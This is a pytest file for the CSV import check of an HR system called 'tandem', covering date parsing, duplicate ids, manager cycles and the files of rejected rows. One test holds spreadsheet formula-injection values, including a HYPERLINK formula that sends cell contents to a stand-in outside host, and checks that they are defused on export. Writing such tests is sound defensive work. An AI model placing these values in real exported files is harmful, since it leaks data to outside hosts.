"""The check: what a file would change, and every problem with its place."""

from __future__ import annotations

import json
import uuid
from pathlib import Path

import pytest

from tandem.access.models import Event
from tandem.organisation import intake
from tandem.organisation.intake.staging import FILE_NAME
from tandem.organisation.models import Area, Employment, Import, Person, Spell
from tandem.organisation.tests.intake.office import Office, csv, found, jobs, kinds

pytestmark = pytest.mark.django_db

FIVE = csv(
    """
    ID | Name      | Department            | Manager ID | Hired
    1  | Eva Storm | Varnholm              |            | 2020-01-01
    2  | Vera Lund | Varnholm / Supply     | 1          | 2020-01-01
    3  | Sam Weir  | Varnholm / Operations | 2          | 2020-01-01
    4  | Kim Dahl  | Varnholm / Operations | 3          | 2027-01-01
    5  | Otto Ek   | Varnholm / Operations | 3          | 2020-01-01
    """
)


def refusal(office: Office, *contents: str | bytes) -> intake.Problem:
    with pytest.raises(intake.FileUnusable) as error:
        office.look(*contents)
    [problem] = error.value.problems
    return problem


def test_a_check_counts_what_would_change(office: Office) -> None:
    report = office.look(FIVE)
    assert report.counts() == {
        "rows": 5,
        "accepted": 5,
        "rejected": 0,
        "people": {"new": 5, "changed": 0, "left": 0},
        "areas": {"new": 3},
    }
    assert report.later == 1  # Kim starts after today
    assert report.problems == []
    assert report.new_areas == ["Varnholm", "Varnholm / Supply", "Varnholm / Operations"]


def test_a_check_changes_nothing(office: Office) -> None:
    office.look(FIVE)
    for model in (Person, Employment, Spell, Area, Import, Event):
        assert not model._base_manager.exists()


def test_a_check_says_how_it_reads_the_file(office: Office) -> None:
    report = office.look(
        "ID;Unit;Start date;Shoe size\n7;Sales;31.12.2020;44\n8;Sales;01.02.2020;\n"
    )
    [file] = report.files
    assert (file.name, file.encoding, file.delimiter, file.rows) == ("people.csv", "UTF-8", ";", 2)
    assert [(each.heading, each.field, each.values) for each in file.columns] == [
        ("ID", "employee id", ["7", "8"]),
        ("Unit", "department", ["Sales"]),
        ("Start date", "hire date", ["31.12.2020", "01.02.2020"]),
        ("Shoe size", None, ["44"]),
    ]
    assert file.dates == {"hire date": "day-first"}


def test_a_check_shows_examples_of_what_changes(office: Office) -> None:
    office.bring(FIVE)
    office.at = office.at.replace(month=12)
    moved = FIVE.replace("5,Otto Ek,Varnholm / Operations,3", "5,Otto Eck,Varnholm / Supply,2")
    report = office.look(moved)
    [otto] = report.examples["changed"]
    assert (otto.number, otto.name, otto.area) == ("5", "Otto Eck", "Varnholm / Supply")
    assert otto.fields == {
        "last name": ("Ek", "Eck"),
        "department": ("Varnholm / Operations", "Varnholm / Supply"),
        "manager id": ("3", "2"),
    }
    assert report.fields == {"last name": 1, "department": 1, "manager id": 1}
    assert (report.same, report.changed) == (4, 1)


# The report is kept


def test_the_report_is_read_again_as_it_was(office: Office) -> None:
    bad = FIVE + "6,Nobody,Varnholm,9,soon\n7,Ida,Varnholm,9,2020-01-01\n"
    kept = office.keep(bad)
    folder = intake.folder_of(office.uploads, kept.pk)
    report = intake.Report.read(folder)
    assert report.counts() == kept.counts
    assert kinds(report) == [("bad_date", 7), ("unknown_manager", 8)]
    assert list(intake.read_problems(folder)) == report.problems
    assert report.kinds == {"bad_date": 1, "unknown_manager": 1}
    assert intake.Report.read(folder) == report


def test_very_many_problems_are_counted_and_only_the_first_are_held(office: Office) -> None:
    rows = "".join(f"{number},Sales,soon\n" for number in range(150))
    kept = office.keep("ID,Department,Hired\n" + rows + "x,Sales,2020-01-01\n")
    folder = intake.folder_of(office.uploads, kept.pk)
    report = intake.Report.read(folder)
    assert len(report.problems) == 100
    assert report.kinds == {"bad_date": 150}
    assert len(list(intake.read_problems(folder))) == 150


def test_only_what_is_needed_later_stays_in_the_folder(office: Office) -> None:
    kept = office.keep(FIVE + "6,Nobody,Varnholm,,soon\n")
    folder = intake.folder_of(office.uploads, kept.pk)
    assert sorted(path.name for path in folder.iterdir()) == [
        "problems.jsonl",
        "rejected.csv",
        "report.json",
        FILE_NAME,
    ]
    assert folder.stat().st_mode & 0o077 == 0  # nobody else on the machine reads it


def test_a_file_that_cannot_be_used_leaves_nothing_behind(office: Office) -> None:
    refusal(office, "ID,Department,Hired\n")
    assert list(office.uploads.iterdir()) == []


def test_a_check_that_was_cut_short_begins_anew(office: Office) -> None:
    import_id = uuid.uuid4()
    folder = intake.folder_of(office.uploads, import_id)
    folder.mkdir(parents=True)
    (folder / FILE_NAME).write_bytes(b"half a file")
    assert office.look(FIVE, import_id=import_id).accepted == 5


def test_progress_is_told_step_by_step(office: Office) -> None:
    office.look(FIVE)
    assert office.steps == [intake.Step.MATCHING, intake.Step.COMPARING]
    many = "".join(f"{number},Sales,2020-01-01\n" for number in range(4100))
    office.look("ID,Department,Hired\n" + many)
    assert {intake.Step.LOOKING, intake.Step.READING} <= set(office.steps)
    assert set(intake.STEP_NAMES) == set(intake.Step)


# Problems of rows


ROWS = "ID,Name,E-mail,Department,Manager ID,Hired,Left on,Leave reason\n"


@pytest.mark.parametrize(
    ("rows", "problems"),
    [
        (",Ann,,Sales,,2020-01-01,,\n", [("missing_id", 2, "ID", "")]),
        ("1,Ann,,,,2020-01-01,,\n", [("missing_department", 2, "Department", "")]),
        ("1,Ann,,Sales,,,,\n", [("missing_hire_date", 2, "Hired", "")]),
        ("1,Ann,,Sales,,31.02.2020,,\n", [("impossible_date", 2, "Hired", "31.02.2020")]),
        ("1,Ann,,Sales,,soon,,\n", [("bad_date", 2, "Hired", "soon")]),
        (
            "1,Ann,,Sales,,2020-01-01,2019-01-01,\n",
            [("leave_before_hire", 2, "Left on", "2019-01-01")],
        ),
        (
            "1,Ann,,Sales,,2020-01-01,,\n1,Ben,,Sales,,2020-01-01,,\n",
            [("duplicate_id", 3, "ID", "1")],
        ),
        ("1,Ann,ann(at)x,Sales,,2020-01-01,,\n", [("bad_email", 2, "E-mail", "ann(at)x")]),
        ("1,Ann,,Sales,V-2,2020-01-01,,\n", [("unknown_manager", 2, "Manager ID", "V-2")]),
        ("1,Ann,,Sales,1,2020-01-01,,\n", [("own_manager", 2, "Manager ID", "1")]),
        ("1,Ann,Sales\n", [("cell_count", 2, None, None)]),
        ('1,"Ann,,Sales,,2020-01-01,,\n', [("broken_quoting", 2, None, None)]),
        ("1,A\0nn,,Sales,,2020-01-01,,\n", [("nul_character", 2, "Name", "A␀nn")]),
        (f"1,{'x' * 101},,Sales,,2020-01-01,,\n", [("too_long", 2, "Name", "x" * 101)]),
        ("1,Ann,,Sales,,2020-01-01,,Quit\n", [("reason_without_date", 2, "Leave reason", "Quit")]),
        (
            "1,Ann,,Sales,,2020-01-01,2020-02-01,Blue\n2,Ben,,Sales,,2020-01-01,2020-02-01,Blue\n",
            [("unknown_reason", 2, "Leave reason", "Blue")],  # once for the word
        ),
        (
            "1,Ann,,Sales,,2020-01-01,2020-02-01,Transfer out\n",
            [("transfer_out", 2, "Leave reason", "Transfer out")],
        ),
        ("1,Ann,,Sales,,2020-01-01,,\n", []),
    ],
)
def test_a_problem_names_its_line_column_and_value(
    office: Office, rows: str, problems: list[tuple[str, int, str, str]]
) -> None:
    good = "90,Good,,Sales,,2020-01-01,,\n"
    report = office.look(ROWS + rows + good)
    assert found(report) == problems
    refused = len({line for kind, line, *_ in problems if report.problems[0].rejects})
    assert report.rejected == refused
    assert report.accepted == report.rows - refused  # a bad row never stops the good ones
    for problem in report.problems:
        assert problem.file == "people.csv"
        assert problem.reason
        assert problem.cure


def test_line_numbers_are_those_of_an_editor(office: Office) -> None:
    report = office.look('ID,Name,Department,Hired\n1,"Ann\nLund",Sales,soon\n\n2,Ben,Sales,soon\n')
    assert kinds(report) == [("bad_date", 2), ("bad_date", 5)]


def test_rejected_counts_rows_not_problems(office: Office) -> None:
    report = office.look("ID,Department,Hired\n,Sales,soon\n2,,soon\n3,Sales,2020-01-01\n")
    assert len(report.problems) == 4
    assert (report.rows, report.accepted, report.rejected) == (3, 1, 2)


def test_a_word_that_is_not_known_is_counted(office: Office) -> None:
    rows = "".join(f"{number},Sales,2020-01-01,2021-01-01,Blue moon\n" for number in range(3))
    report = office.look("ID,Department,Hired,Left on,Reason for leaving\n" + rows)
    [problem] = report.problems
    assert problem.reason.endswith("Rows that say so: 3.")
    assert not problem.rejects


# Duplicates


def test_of_duplicates_the_first_row_stays(office: Office) -> None:
    office.bring("ID,Name,Department,Hired\n1,First,A,2020-01-01\n1,Second,B,2020-01-01\n")
    [person] = Person.objects.all()
    assert person.first_name == "First"
    assert [area.name for area in Area.objects.all()] == ["A"]


def test_a_duplicate_names_the_line_of_the_first(office: Office) -> None:
    report = office.look(
        "ID,Department,Hired\n1,Sales,2020-01-01\n", "ID,Department,Hired\n1,Depot,2020-01-01\n"
    )
    [problem] = report.problems
    assert problem.reason == "This employee id stands on line 2 of 0.csv already."
    assert (problem.file, problem.line) == ("1.csv", 2)


def test_a_row_after_a_refused_one_with_its_id_is_taken(office: Office) -> None:
    report = office.look("ID,Department,Hired\n1,Sales,soon\n1,Sales,2020-01-01\n")
    assert (kinds(report), report.accepted) == ([("bad_date", 2)], 1)


def test_ids_are_texts_and_keep_their_zeros(office: Office) -> None:
    report = office.look("ID,Department,Hired\n7,Sales,2020-01-01\n007,Sales,2020-01-01\n")
    assert report.accepted == 2


# Several files


def test_several_files_are_one_import(office: Office) -> None:
    one = "ID,Department,Manager ID,Hired\n1,Sales,2,31/12/2020\n"
    two = "Personalnummer;Abteilung;Vorgesetzter;Eintrittsdatum\n2;Sales;;01.02.2020\n"
    report = office.look(one, two)
    assert (report.accepted, report.areas, report.problems) == (2, 1, [])  # 1's manager is in two
    assert [file.name for file in report.files] == ["0.csv", "1.csv"]


def test_one_unusable_file_stops_them_all(office: Office) -> None:
    problem = refusal(office, "ID,Department,Hired\n1,Sales,2020-01-01\n", b"\0\1\2\3" * 99)
    assert (problem.file, problem.kind) == ("1.csv", "not_text")


# Files that cannot be used


@pytest.mark.parametrize(
    ("content", "kind"),
    [
        ("", "empty_file"),
        (bytes(range(256)) * 9, "not_text"),
        ("ID,Department,Hired\n", "header_only"),
        ("ID,Department,Hired\n,,\n", "header_only"),
        ("ID,Department\n1,Sales\n", "missing_columns"),
        ("just some words\nand more\n", "missing_columns"),
        ("ID,Department,Hired\n1,Sales,3/4/2020\n", "ambiguous_dates"),
    ],
)
def test_a_file_that_cannot_be_used_says_why(
    office: Office, content: str | bytes, kind: str
) -> None:
    problem = refusal(office, content)
    assert (problem.kind, problem.line, problem.rejects) == (kind, None, True)
    assert problem.reason
    assert problem.cure


# Dates that can be read both ways


AMBIGUOUS = "ID,Department,Hired,Left on\n1,Sales,3/4/2020,\n2,Sales,5/6/2020,{left}\n"


def test_ambiguous_dates_are_asked_not_guessed(office: Office) -> None:
    problem = refusal(office, AMBIGUOUS.format(left=""))
    assert (problem.kind, problem.column, problem.value) == ("ambiguous_dates", "Hired", "3/4/2020")
    assert "where the columns are matched" in problem.cure


def test_each_column_of_dates_decides_for_itself(office: Office) -> None:
    problem = refusal(office, AMBIGUOUS.format(left="31/12/2025"))
    assert problem.column == "Hired"


@pytest.mark.parametrize(
    ("order", "hired"), [("day-first", "2020-04-03"), ("month-first", "2020-03-04")]
)
def test_a_mapping_says_the_order(office: Office, order: str, hired: str) -> None:
    mapping = office.mapping(f'[dates]\norder = "{order}"')
    office.bring(AMBIGUOUS.format(left=""), mapping=mapping)
    stay = Employment.objects.get(person__number="1")
    assert str(stay.start_on) == hired


def test_a_column_that_mixes_both_orders_has_problems_in_its_rows(office: Office) -> None:
    dates = ["31/12/2020", "12/31/2020", "3/4/2020"]
    rows = "".join(f"{number},Sales,{day}\n" for number, day in enumerate(dates))
    report = office.look("ID,Department,Hired\n" + rows)
    assert found(report) == [("ambiguous_date", 4, "Hired", "3/4/2020")]
    assert "2020-04-03" in report.problems[0].cure
    assert "2020-03-04" in report.problems[0].cure


def test_one_slip_in_a_long_column_is_a_problem_of_its_row(office: Office) -> None:
    rows = "".join(f"{number},Sales,31/12/2020\n" for number in range(40))
    report = office.look("ID,Department,Hired\n" + rows + "x,Sales,12/31/2020\ny,Sales,3/4/2020\n")
    assert found(report) == [("bad_date", 42, "Hired", "12/31/2020")]
    assert "Is it 2020-12-31?" in report.problems[0].cure


# Managers


def test_a_manager_in_the_file_or_in_tandem_is_known(office: Office) -> None:
    office.bring("ID,Department,Hired\n9,Sales,2020-01-01\n")
    rows = "1,Sales,9,2020-01-01\n2,Sales,3,2020-01-01\n3,Sales,,2020-01-01\n"
    assert office.look("ID,Department,Manager ID,Hired\n" + rows).problems == []


def test_an_unknown_manager_names_the_one_with_two_digits_swapped(office: Office) -> None:
    rows = "V-20481,Sales,,2020-01-01\nV-1,Sales,V-20418,2020-01-01\nV-2,Sales,X,2020-01-01\n"
    one, other = office.look("ID,Department,Manager ID,Hired\n" + rows).problems
    assert "Is it V-20481?" in one.cure
    assert "Is it" not in other.cure
    assert not one.rejects


def test_a_manager_whose_own_row_was_refused_is_told_to_be_in_the_file(office: Office) -> None:
    rows = "1,Sales,2,2020-01-01\n2,Sales,,soon\n"
    report = office.look("ID,Department,Manager ID,Hired\n" + rows)
    assert kinds(report) == [("manager_not_taken", 2), ("bad_date", 3)]
    assert "on a row that was not taken" in report.problems[0].reason


@pytest.mark.parametrize(
    ("managers", "in_circle"),
    [
        ({1: 2, 2: 1}, {1, 2}),
        ({1: 2, 2: 3, 3: 1}, {1, 2, 3}),
        ({1: 2, 2: 3, 3: 2}, {2, 3}),  # 1 hangs below the circle and keeps the manager
        ({1: 2, 2: 1, 3: 4, 4: 3, 5: 1}, {1, 2, 3, 4}),
        ({1: 2, 2: 3}, set()),
        ({n: n + 1 for n in range(1, 60)} | {60: 1}, set(range(1, 61))),
    ],
)
def test_managers_in_a_circle_are_noted_and_taken_without_one(
    office: Office, managers: dict[int, int], in_circle: set[int]
) -> None:
    everybody = sorted(managers.keys() | set(managers.values()))
    rows = "".join(f"{one},Sales,{managers.get(one, '')},2020-01-01\n" for one in everybody)
    content = "ID,Department,Manager ID,Hired\n" + rows
    report = office.look(content)
    assert {problem.line for problem in report.problems} == {one + 1 for one in in_circle}
    assert {problem.kind for problem in report.problems} <= {"manager_cycle"}
    assert report.accepted == len(everybody)
    office.bring(content)
    jobs = Spell.objects.filter(manager__isnull=False).select_related("employment__person")
    kept = {int(job.employment.person.number or 0) for job in jobs}
    assert kept == managers.keys() - in_circle


def test_a_circle_is_shown_as_one(office: Office) -> None:
    rows = "A,Sales,B,2020-01-01\nB,Sales,A,2020-01-01\n"
    one, other = office.look("ID,Department,Manager ID,Hired\n" + rows).problems
    assert "A → B → A" in one.reason
    assert one.reason == other.reason


# Rows that come back


def test_refused_rows_come_back_as_they_came_with_their_reasons(office: Office) -> None:
    content = (
        "ID;Name;Department;Hired\n"
        '1;"Lund; ""Ann""\nof Sales";Sales;soon\n'
        "2;Ben;Sales;2020-01-01\n"
        ";;;soon\n"
        "4;Dot\n"
        '5;"Eva;Sales;2020-01-01\n'
    )
    kept = office.keep(content)
    [path] = intake.rejected_files(intake.folder_of(office.uploads, kept.pk))
    assert path.name == "rejected.csv"
    text = path.read_text(encoding="utf-8-sig")
    header, *rows = text.replace("\r\n", "\n").split("\n")
    assert header == "ID;Name;Department;Hired;Reason not taken"
    assert rows[0] == '1;"Lund; ""Ann""'
    assert rows[1].startswith('of Sales";Sales;soon;Hired: “soon” is not read as a date')
    assert rows[2].startswith(";;;soon;ID: This row has no employee id. Hired: ")
    assert rows[2].endswith("Department: This row has no department.")
    assert rows[3] == "4;Dot;;;This row has 2 cells and the headings are 4."
    assert rows[4].startswith("5;")
    assert "quotation mark" in rows[4]
    assert rows[5:] == [""]


def test_no_cell_that_comes_back_is_a_formula_to_a_spreadsheet(office: Office) -> None:
    kept = office.keep(
        "ID,Name,Title,FTE,Department,Hired\n"
        '1,"=HYPERLINK(""http://elsewhere.example/""&A1)",-,-0.5,Sales,soon\n'
        "2,@SUM(A1),-2+3,1,Sales,soon\n"
        "3,Ben,,1,Sales,2020-01-01\n"
    )
    [path] = intake.rejected_files(intake.folder_of(office.uploads, kept.pk))
    _header, one, other = path.read_text(encoding="utf-8-sig").splitlines()
    assert one.startswith(
        """1,"'=HYPERLINK(""http://elsewhere.example/""&A1)",-,-0.5,Sales,soon,"""
    )
    assert other.startswith("2,'@SUM(A1),'-2+3,1,Sales,soon,")


def test_a_mended_file_of_refused_rows_can_be_imported(office: Office) -> None:
    kept = office.keep("ID,Name,Department,Hired\n1,Ann,Sales,soon\n2,Ben,Sales,2020-01-01\n")
    office.apply(kept)
    [path] = intake.rejected_files(intake.folder_of(office.uploads, kept.pk))
    mended = path.read_bytes().replace(b",soon,", b",2021-01-01,")
    assert office.bring(mended) == {"new": 1, "changed": 0, "left": 0, "areas": 0}


def test_each_file_has_its_own_refused_rows(office: Office) -> None:
    bad, good = "ID,Department,Hired\n1,Sales,soon\n", "ID,Department,Hired\n2,Sales,2020-01-01\n"
    kept = office.keep(good, bad, bad.replace("1", "3"))
    files = intake.rejected_files(intake.folder_of(office.uploads, kept.pk))
    assert [path.name for path in files] == ["rejected-2.csv", "rejected-3.csv"]


def test_without_refused_rows_no_file_comes_back(office: Office) -> None:
    kept = office.keep(FIVE)
    assert intake.rejected_files(intake.folder_of(office.uploads, kept.pk)) == []


def test_the_same_bytes_have_the_same_digest(office: Office) -> None:
    assert office.look(FIVE).digest == office.look(FIVE).digest != office.look(FIVE + "\n").digest


def test_the_file_of_problems_holds_one_in_a_line(office: Office) -> None:
    kept = office.keep(FIVE + "6,Nobody,Varnholm,,soon\n")
    path = intake.folder_of(office.uploads, kept.pk) / "problems.jsonl"
    [line] = path.read_text(encoding="utf-8").splitlines()
    assert json.loads(line) == {
        "kind": "bad_date",
        "file": "people.csv",
        "line": 7,
        "column": "Hired",
        "value": "soon",
        "reason": "“soon” is not read as a date: it has no day, month and year.",
        "cure": "Write the day in the style of 2026-12-31.",
        "rejects": True,
    }


def test_a_pipe_can_be_imported(office: Office, tmp_path: Path) -> None:
    """What cannot be read twice is read once: the check works on a copy."""
    import os
    import threading

    pipe = tmp_path / "pipe"
    os.mkfifo(pipe)
    writer = threading.Thread(target=pipe.write_text, args=(FIVE,))
    writer.start()
    report = intake.check(
        [intake.Incoming("pipe", pipe)], folder=tmp_path / "out", today=office.at.date()
    )
    writer.join()
    assert report.accepted == 5


@pytest.mark.parametrize(
    ("again", "seems"),
    [
        (["Dairy,2021-01-01"] * 3, True),
        (["Dairy,2021-01-01"] * 2, False),  # entered twice by mistake
        (["Sales,2020-01-01"] * 9, False),  # the same row once more says nothing else
    ],
)
def test_people_who_come_again_otherwise_make_a_file_look_like_a_history(
    office: Office, again: list[str], seems: bool
) -> None:
    rows = [f"{number},Sales,2020-01-01" for number in range(20)]
    rows += [f"{number},{said}" for number, said in enumerate(again)]
    report = office.look("\n".join(["ID,Department,Hired", *rows]))
    assert report.seems_a_history == seems
    assert report.rejected == (0 if again[0] == "Sales,2020-01-01" else len(again))


# One path written in two ways


def test_a_path_with_blanks_and_without_is_one_area_and_is_told(office: Office) -> None:
    rows = "1,Works / Night,2020-01-01\n2,Works/Night,2020-01-01\n3,works/Day,2020-01-01\n"
    report = office.look(f"ID,Department,Hired\n{rows}")
    assert (report.areas, found(report)) == (
        3, [("area_written_twice", None, "Department", "Works/Night")],
    )  # fmt: skip
    assert "2 areas of the file" in report.problems[0].reason
    assert "“Works / Night”" in report.problems[0].reason


@pytest.mark.parametrize(
    ("departments", "areas"),
    [
        (["A / B", "Q/A"], 3),  # the sign is part of a name, as long as nothing says otherwise
        (["A / B", "A/B", "Q/A"], 3),  # and still is where no area Q is
        (["A / B", "A/C"], 3),
        (["A / B / C", "A/B"], 3),
        (["A/B", "A/C"], 3),
        (["A > B > C", "A > B>C", "A > B>D"], 4),  # below a level that has its blanks
        (["A > B > D/E", "A > B>D/E", "A > B"], 3),  # the other sign stays part of the name
        (["A > B > C", "A > B>C", "A > B > D/E"], 4),
        (["A>B", "A>C/D", "A>E"], 4),  # one sign stands in every path, the other in few
        (["A>B / C", "A>D", "A>E"], 4),  # with or without blanks
        (["A>B", "A>C/D"], 4),  # in half of them it parts levels too
        (["A>B", "A/C"], 3),
    ],
)
def test_a_sign_without_blanks_parts_levels_only_where_the_file_shows_it(
    office: Office, departments: list[str], areas: int
) -> None:
    rows = "".join(f"{n},{each},2020-01-01\n" for n, each in enumerate(departments))
    assert office.look(f"ID,Department,Hired\n{rows}").areas == areas


def test_a_mapping_says_what_parts_levels_and_nothing_is_guessed(office: Office) -> None:
    mapping = office.mapping('[department]\nseparator = " / "\n')
    rows = "1,Works / Night,2020-01-01\n2,Works/Night,2020-01-01\n"
    report = office.look(f"ID,Department,Hired\n{rows}", mapping=mapping)
    assert (report.areas, found(report)) == (3, [])


# Managers without their zeros


@pytest.mark.parametrize("shape", [intake.Shape.PERSON, intake.Shape.HISTORY])
def test_a_manager_without_zeros_is_found_and_told_once(
    office: Office, shape: intake.Shape
) -> None:
    day = "Hired" if shape is intake.Shape.PERSON else "From"
    rows = "001,Works,,2020-01-01\n002,Works,1,2020-01-01\n003,Works,1,2020-01-01\n"
    text = f"ID,Department,Manager ID,{day}\n{rows}"
    report = office.look(text, shape=shape)
    assert found(report) == [("manager_zeros", 3, "Manager ID", "1")]
    assert "“001”. Rows with such an id: 2." in report.problems[0].reason
    office.bring(text, shape=shape)
    assert [jobs(number) for number in ("002", "003")] == [
        ["2020-01-01 – . | Works | 001 | ."], ["2020-01-01 – . | Works | 001 | ."],
    ]  # fmt: skip


def test_a_manager_known_from_before_is_found_without_zeros_too(office: Office) -> None:
    office.bring("ID,Department,Hired\n004269,Works,2020-01-01\n")
    office.bring("ID,Department,Manager ID,Hired\n7,Works,4269,2020-01-01\n")
    assert jobs("7") == ["2020-01-01 – . | Works | 004269 | ."]


@pytest.mark.parametrize("ids", [("01", "001"), ("02", "003")])
def test_of_two_or_none_that_may_be_meant_nobody_is_taken(
    office: Office, ids: tuple[str, str]
) -> None:
    rows = "".join(f"{each},Works,,2020-01-01\n" for each in ids)
    report = office.look(f"ID,Department,Manager ID,Hired\n{rows}9,Works,1,2020-01-01\n")
    assert [each.kind for each in report.problems] == ["unknown_manager"]


def test_nobody_becomes_their_own_manager_by_zeros(office: Office) -> None:
    report = office.look("ID,Department,Manager ID,Hired\n009,Works,9,2020-01-01\n")
    assert [each.kind for each in report.problems] == ["unknown_manager"]
